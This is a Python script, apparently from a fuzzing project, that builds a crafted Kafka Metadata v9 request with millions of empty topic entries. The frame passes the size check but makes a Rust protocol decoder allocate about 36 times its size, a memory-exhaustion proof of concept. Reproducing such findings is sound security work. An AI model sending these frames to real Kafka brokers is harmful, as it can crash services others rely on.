#!/usr/bin/env python3
"""Writes a Metadata v9 request frame that passes the bounds check yet makes the codec
allocate ~36x the frame size in one Vec::with_capacity (see README.md, "Findings").

    python3 make_amplification_repro.py [OUT] [TOPICS]

Default: 10,000,000 topics -> a 20 MB frame -> malloc(720,000,000) in
kafka_protocol CompactArray<MetadataRequestTopic>::decode, which the fuzz target run with
-malloc_limit_mb=512 reports as out-of-memory. (Too big for the committed corpus, and out
of reach of the fuzzer's 4 KiB inputs, hence a generator.)
"""
import struct
import sys


def uvarint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def main() -> None:
    out = sys.argv[1] if len(sys.argv) > 1 else "metadata-v9-amplification.bin"
    topics = int(sys.argv[2]) if len(sys.argv) > 2 else 10_000_000
    # Header v2: api key 3 (Metadata), version 9, correlation id 1, null client id, no tags.
    header = struct.pack(">hhih", 3, 9, 1, -1) + b"\x00"
    # Body: compact array of `topics` entries, each an empty compact name (0x01) and an empty
    # tagged-field section (0x00): 2 bytes on the wire, 72 bytes as a MetadataRequestTopic.
    # Then allow_auto_topic_creation, include_cluster_authorized_operations,
    # include_topic_authorized_operations, and the request's own empty tagged fields.
    body = uvarint(topics + 1) + b"\x01\x00" * topics + b"\x01\x00\x00\x00"
    with open(out, "wb") as f:
        f.write(header + body)
    print(f"wrote {out}: {len(header) + len(body)} bytes, {topics} topics")


if __name__ == "__main__":
    main()
